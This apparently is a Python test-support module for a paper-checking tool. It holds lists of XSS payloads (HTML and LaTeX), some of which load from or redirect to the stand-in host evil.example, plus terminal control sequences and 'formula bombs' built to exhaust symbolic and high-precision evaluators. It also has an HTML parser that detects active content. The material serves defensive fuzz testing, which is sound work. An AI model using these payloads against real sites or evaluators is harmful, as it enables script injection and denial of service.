"""Hostile claims for the tests: texts that try to act in a page or on a terminal, formulas that fill a machine."""

import json
import re
from html.parser import HTMLParser

from hypothesis import strategies as st

from neurondeath.paper_check.formula_text import FUNCTIONS

SCRIPTS = [
    "<script>alert(1)</script>",
    "</p><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "<form action=//evil.example><input name=q></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--<script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<xmp><script>alert(1)</script></xmp>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)",
    'x" onmouseover="alert(1)',
    "x' onmouseover='alert(1)",
    "x` onmouseover=`alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
]
LATEX = [
    r"\href{javascript:alert(1)}{x}",
    r"\href{data:text/html,<script>alert(1)</script>}{x}",
    r"\text{<script>alert(1)</script>}",
    r"\mathrm{<script>alert(1)</script>}",
    r"\mbox{</math><script>alert(1)</script>}",
    r"\text{</mtext></math><img src=x onerror=alert(1)>}",
    r"\text{&lt;script&gt;}",
    r"\text{&#60;script&#62;}",
    r"\class{x\" onload=\"alert(1)}{y}",
    r"\class{badge CONFIRMED}{y}",
    r"\style{background:url(//evil.example)}{y}",
    r"\color{url(javascript:alert(1))}x",
    r"\color{red\" onclick=\"alert(1)}{x}",
    r"\textcolor{red'><script>}{x}",
    r"\verb|<script>alert(1)</script>|",
    r"\operatorname{<script>}",
    r"\tag{<b onclick=alert(1)>}",
    r"\hspace{1em\" onclick=\"alert(1)}",
    r"\unicode{x3c}script\unicode{x3e}",
    r"\lt script \gt alert(1) \lt /script \gt",
    r"\newcommand{\a}{\b\b}\newcommand{\b}{\a\a}\a",
    r"\def\a{\a\a}\a",
    r"\begin{array}{c|c} <script> & x \end{array}",
    r"\underbrace{<script>}_{alert(1)}",
    r"\phantom{<iframe src=javascript:alert(1)>}",
]
CONTROLS = [
    "\x1b[2J\x1b[31m",
    "\x07",
    "\x9b31m",
    "\u202e reversed",
    "\u200b",
    "\x00",
    "\x7f",
    "\u2028",
    "\ufeff",
    "\x08\x08",
]
HOSTILE = [*SCRIPTS, *LATEX]

# formula -> on which routes it must be refused: "p" in high precision, "s" in computer algebra; neither may take long
BOMBS = {
    "9**9**9**9": "ps",
    "9**9**9": "s",
    "2**10**9": "s",
    "2**-10**9": "s",
    "(1/3)**10**8": "s",
    "2**2**2**2**2**2**2": "ps",
    "(-1)**(10**10**10)": "ps",
    "10**10**10**10": "ps",
    "e**e**e**e**e": "s",
    "exp(exp(exp(exp(10))))": "ps",
    "exp(10**10**3)": "ps",
    "exp(-exp(exp(1000)))": "ps",
    "pi**10**6": "s",
    "sin(10**10**6)": "ps",
    "cos(9**9**9)": "ps",
    "sin(exp(exp(10)))": "ps",
    "acos(cos(10**10**5))": "ps",
    "erfc(exp(exp(6)))": "ps",
    "Phi(-10**10**3)": "ps",
    "pdf(10**10**3)": "ps",
    "erf(9**9**9)": "ps",
    "log(9**9**9**9)": "ps",
    "floor(exp(10**5))": "s",
    "sign(exp(exp(9)) - exp(exp(9)))": "s",
    "max(9**9**9, x)": "s",
    "binomial(10**10, 5*10**9)": "s",
    "binomial(10**1000, 5)": "ps",
    "binomial(x, 10**6)": "s",
    "binomial(1/2, 10**6)": "s",
    "binomial(10**6, 10**5)": "s",
    "Sum(1, j, 1, 10**12)": "ps",
    "Sum(1, j, 1, 10**10**10)": "ps",
    "Sum(Sum(Sum(i*j*m, i, 1, 1000), j, 1, 1000), m, 1, 1000)": "ps",
    "Product(j, j, 1, 10**9)": "ps",
    "Product(Product(i + j + x, i, 1, 2000), j, 1, 2000)": "ps",
    "Sum(Product(x + i, i, 1, j), j, 1, 3000)": "ps",
    "Product(x + j, j, 1, 900)": "s",
    "Product(1 + x**j, j, 1, 900)": "s",
    "Sum(x**(1000*j), j, 1, 10)": "",
    "((x + 1)**50)**50": "s",
    "(x + 1)**10000": "s",
    "(x + y + 1)**90": "s",
    "(1 + sqrt(2) + pi)**99": "s",
    "x**123456789": "s",
    "x**0.123456789": "s",
    "x**(10**9/7)": "s",
    "sqrt(3**5000 + 1)": "s",
    "(7**2000 + 2)**(1/3)": "s",
    "*".join(f"(x + {k})" for k in range(99)) + "*(x + y)**9": "s",
    "*".join(f"(x**{k} + y)" for k in range(1, 40)): "s",
    "1e999999999": "ps",
    "1e-999999999": "ps",
    "0.1e99999": "ps",
    "1" * 1000: "ps",
    "0." + "1" * 1000: "ps",
    "0x" + "f" * 1500: "ps",
    "1e0999999999": "ps",
    "(" * 150 + "1" + ")" * 150: "",
    "(" * 900 + "1" + ")" * 900: "ps",
    "-" * 1500 + "1": "ps",
    "exp(" * 300 + "0" + ")" * 300: "ps",
    "1+" * 900 + "1": "ps",
    "2**" * 600 + "2": "ps",
    "1+" * 60_000 + "1": "ps",
    "(" * 100_000 + "1" + ")" * 100_000: "ps",
    "n[10**10**10]": "ps",
    "n[" * 300 + "0" + "]" * 300: "ps",
    "x" * 100_000: "ps",
}


class Marks(HTMLParser):
    """Collect what could act in a page, and its text."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.found, self.tags, self.text = [], set(), []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED or (tag in ("style", "title", "body") and tag in self.tags):
            self.found.append(tag)
        self.tags.add(tag)
        for name, value in attrs:
            address = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name in ("style", "srcdoc", "action", "formaction", "xlink:href", "srcset"):
                self.found.append(name)
            if name == "http-equiv" and address != "content-security-policy":
                self.found.append(address)
            if name == "href" and not address.startswith("#"):
                self.found.append(address)
            if name == "src" and not address.startswith("data:image/png;base64,"):
                self.found.append(address)
            if address.startswith(("javascript:", "vbscript:", "data:text")):
                self.found.append(address)

    def handle_comment(self, data):
        self.found.append(f"comment {data}")

    def handle_decl(self, decl):
        if decl != "DOCTYPE html":
            self.found.append(decl)

    def handle_pi(self, data):
        self.found.append(data)

    unknown_decl = handle_pi

    def handle_data(self, data):
        self.text.append(data)


ALLOWED = frozenset(
    re.findall(
        r"\w+",
        "html head meta title style body h1 h2 h3 p nav table thead tbody tr th td a span article header div code "
        "dl dt dd ul li section strong details summary figure img figcaption math mfrac mi mn mo mover mpadded "
        "mphantom mroot mrow mspace msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder munderover",
    )
)


def what_acts(page):
    """List what in a page could act, load, or hide; nothing, if all is well."""
    marks = Marks(page)
    hidden = [letter for letter in CONTROL_LETTERS if letter in page]
    return marks.found + hidden + ([] if "default-src 'none'" in page else ["no policy"])


CONTROL_LETTERS = [
    chr(code) for code in [*range(9), 11, *range(14, 32), *range(127, 160), 0x200B, 0x202E, 0x2028, 0xFEFF]
]


def claim_file(**fields):
    """Write a claims file of one claim as TOML; `parameters` and `mutation` are tables of its check and mutation."""
    parameters = {"left": "x", "relation": "<=", "right": "x + 1", "names": {"x": [0, 1]}} | fields.pop(
        "parameters", {}
    )
    check = {"route": "high precision", "checker": "neurondeath.paper_check.checkers.identities:holds_at_random_points"}
    check |= fields.pop("check", {})
    mutation = {"description": "reversed", "changes": {"relation": ">="}} | fields.pop("mutation", {})
    claim = {"id": "M1", "paper": "mine", "statement": "s."} | fields
    lines = ["[[claim]]", *(f"{key} = {toml(value)}" for key, value in claim.items())]
    lines += ["[[claim.check]]", *(f"{key} = {toml(value)}" for key, value in check.items())]
    lines += [f"parameters = {toml(parameters)}", "[[claim.mutation]]"]
    return "\n".join([*lines, *(f"{key} = {toml(value)}" for key, value in mutation.items())]) + "\n"


def toml(value):
    """Write a value as TOML."""
    if isinstance(value, dict):
        return "{ " + ", ".join(f"{json.dumps(key)} = {toml(item)}" for key, item in value.items()) + " }"
    if isinstance(value, (list, tuple)):
        return "[" + ", ".join(map(toml, value)) + "]"
    if isinstance(value, str):
        plain = json.dumps(value, ensure_ascii=False)
        return re.sub(r"[\x00-\x1f\x7f-\x9f]", lambda found: f"\\u{ord(found.group()):04x}", plain)
    return json.dumps(value)


TEXT_FIELDS = ("id", "paper", "where", "statement", "formula", "domain", "erratum", "reason")
numbers = st.sampled_from(
    [
        "0",
        "1",
        "2",
        "3",
        "7",
        "10",
        "0.5",
        "1e-3",
        "1e300",
        "1e-300",
        "1e400",
        "99999999999",
        "1/2",
        "-1",
        "pi",
        "e",
        "oo",
        "10**9",
        "2**64",
        "1-1e-17",
        "0.123456789",
        "x",
        "y",
        "k",
        "n[1]",
    ]
)


def formulas(max_leaves=12):
    """Return a strategy for formulas, most of them too large to be computed."""
    one = [name for name, count in FUNCTIONS.items() if count == 1]

    def larger(part):
        pairs = st.tuples(st.sampled_from(["+", "-", "*", "/", "**", "**", "**"]), part, part).map(
            lambda t: f"({t[1]}) {t[0]} ({t[2]})"
        )
        calls = st.tuples(st.sampled_from(one), part).map(lambda t: f"{t[0]}({t[1]})")
        twos = st.tuples(st.sampled_from(["binomial", "min", "max"]), part, part).map(
            lambda t: f"{t[0]}({t[1]}, {t[2]})"
        )
        ranges = st.tuples(st.sampled_from(["Sum", "Product"]), part, st.sampled_from("xjk"), part, part).map(
            lambda t: f"{t[0]}({t[1]}, {t[2]}, {t[3]}, {t[4]})"
        )
        return st.one_of(pairs, pairs, calls, twos, ranges)

    return st.recursive(numbers, larger, max_leaves=max_leaves)
